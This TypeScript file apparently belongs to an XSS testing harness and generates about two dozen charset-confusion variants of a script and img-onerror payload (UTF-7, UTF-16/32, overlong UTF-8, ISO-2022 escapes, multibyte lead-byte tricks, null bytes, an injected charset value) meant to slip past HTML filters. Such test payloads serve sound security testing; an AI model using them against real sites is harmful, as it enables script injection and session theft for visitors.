import { fillIn, type Aims, type Trick } from './trick.ts';

const SCRIPT = '<script>{run}</script><img src="{url}/e.png" onerror="{run}">';

/** The script as UTF-7: no `<` in any byte of it. */
function utf7(text: string): Buffer {
  return Buffer.from(text.replace(/[^A-Za-z0-9'(),\-./:? ]+/g, encodeUtf7), 'ascii');
}
function encodeUtf7(run: string): string {
  const units = Buffer.from(run, 'utf16le').swap16();
  return `+${units.toString('base64').replace(/=+$/, '')}-`;
}

const BRACKETS = codes('<>');

/** What differs is which bytes mean `<` to whom. */
const CASES: readonly {
  readonly charset: string;
  readonly encode: (html: string) => Buffer;
}[] = [
  { charset: 'utf-7', encode: utf7 },
  { charset: 'unicode-1-1-utf-7', encode: utf7 },
  { charset: 'utf-8', encode: utf7 },
  { charset: 'x-nonsense', encode: utf7 },
  { charset: 'utf-16', encode: (html) => Buffer.from(`\ufeff${html}`, 'utf16le') },
  { charset: 'utf-16le', encode: (html) => Buffer.from(html, 'utf16le') },
  { charset: 'utf-16be', encode: (html) => Buffer.from(html, 'utf16le').swap16() },
  { charset: 'utf-8', encode: (html) => Buffer.from(`\ufeff${html}`, 'utf16le') },
  {
    charset: 'utf-32',
    encode: (html) => Buffer.from(codes(html).flatMap((code) => [code, 0, 0, 0])),
  },
  { charset: 'utf-8', encode: (html) => overlong(html) },
  { charset: 'us-ascii', encode: (html) => highBit(html) },
  {
    charset: 'iso-2022-jp',
    encode: (html) => Buffer.from(`\u001b$B\u001b(B${html}\u001b(J`, 'latin1'),
  },
  {
    charset: 'iso-2022-jp',
    encode: (html) => Buffer.from(`<p title="\u001b$B">${html}\u001b(B">`, 'latin1'),
  },
  {
    charset: 'iso-2022-kr',
    encode: (html) => Buffer.from(`\u001b$)C\u000e\u000f${html}`, 'latin1'),
  },
  {
    charset: 'iso-2022-cn',
    encode: (html) => Buffer.from(`\u001b$)A\u000e\u000f${html}`, 'latin1'),
  },
  { charset: 'hz-gb-2312', encode: (html) => Buffer.from(`~{~}${html}<p title="~{">~}`, 'latin1') },
  {
    charset: 'shift_jis',
    encode: (html) => Buffer.concat([Buffer.from('<p title="\x81">', 'latin1'), Buffer.from(html)]),
  },
  {
    charset: 'gb18030',
    encode: (html) => Buffer.concat([Buffer.from('<p title="\x81">', 'latin1'), Buffer.from(html)]),
  },
  {
    charset: 'big5',
    encode: (html) => Buffer.concat([Buffer.from('<p title="\xa1">', 'latin1'), Buffer.from(html)]),
  },
  {
    charset: 'euc-jp',
    encode: (html) =>
      Buffer.concat([Buffer.from('<p title="\x8f\xa1">', 'latin1'), Buffer.from(html)]),
  },
  { charset: 'x-user-defined', encode: (html) => Buffer.from(html) },
  { charset: 'x-mac-farsi', encode: (html) => Buffer.from(html) },
  { charset: 'ibm037', encode: (html) => Buffer.from(html) },
  {
    charset: 'utf-8',
    encode: (html) => Buffer.from(html.replaceAll('<', '<\0').replaceAll('script', 'scr\0ipt')),
  },
  {
    charset: 'utf-8',
    encode: (html) => Buffer.concat([Buffer.from('<p title="\xc2">', 'latin1'), Buffer.from(html)]),
  },
  { charset: 'windows-1252"; x="', encode: (html) => Buffer.from(html) },
];

export const ENCODINGS: readonly Trick[] = CASES.map(({ charset, encode }, at) => ({
  name: `encoding ${at + 1} (${charset})`,
  html: SCRIPT,
  alone: true,
  charset,
  bytes: (aims: Aims) => encode(fillIn(SCRIPT, aims)),
}));

function overlong(html: string): Buffer {
  return Buffer.from(
    codes(html).flatMap((code) =>
      BRACKETS.includes(code) ? [0xc0 | (code >> 6), 0x80 | (code & 0x3f)] : [code],
    ),
  );
}

function highBit(html: string): Buffer {
  return Buffer.from(codes(html).map((code) => (BRACKETS.includes(code) ? code | 0x80 : code)));
}

function codes(html: string): number[] {
  return Array.from(Buffer.from(html, 'latin1'));
}
